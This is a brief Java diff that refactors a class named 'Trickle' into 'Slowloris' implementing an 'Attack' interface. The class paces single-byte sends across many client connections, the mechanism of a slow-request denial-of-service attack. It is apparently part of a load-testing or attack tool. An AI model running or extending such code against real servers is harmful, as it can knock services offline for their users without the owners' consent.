@@ -10,7 +10,7 @@ import java.util.concurrent.TimeUnit;
  *
  * <p>Threads: its worker's.
  */
-final class Trickle {
+final class Slowloris implements Attack {
     private static final long PERIOD_NANOS = TimeUnit.SECONDS.toNanos(1);
     private static final int MOST_AT_ONCE = 64;
     private static final byte[] BYTE = {'s'};
@@ -19,13 +19,14 @@ final class Trickle {
     private final long startNanos;
     private long sent;
 
-    Trickle(List<Client> clients, long startNanos) {
+    Slowloris(List<Client> clients, long startNanos) {
         this.clients = clients;
         this.startNanos = startNanos;
     }
 
-    /** Sends the bytes that are due. Returns when to ask again. */
-    long onTurn(long nowNanos) {
+    /** Sends the bytes that are due. */
+    @Override
+    public long onTurn(long nowNanos) {
         long due = nextDueNanos();
         for (int i = 0; due <= nowNanos && i < MOST_AT_ONCE; i++) {
             send(clients.get((int) (sent % clients.size())));
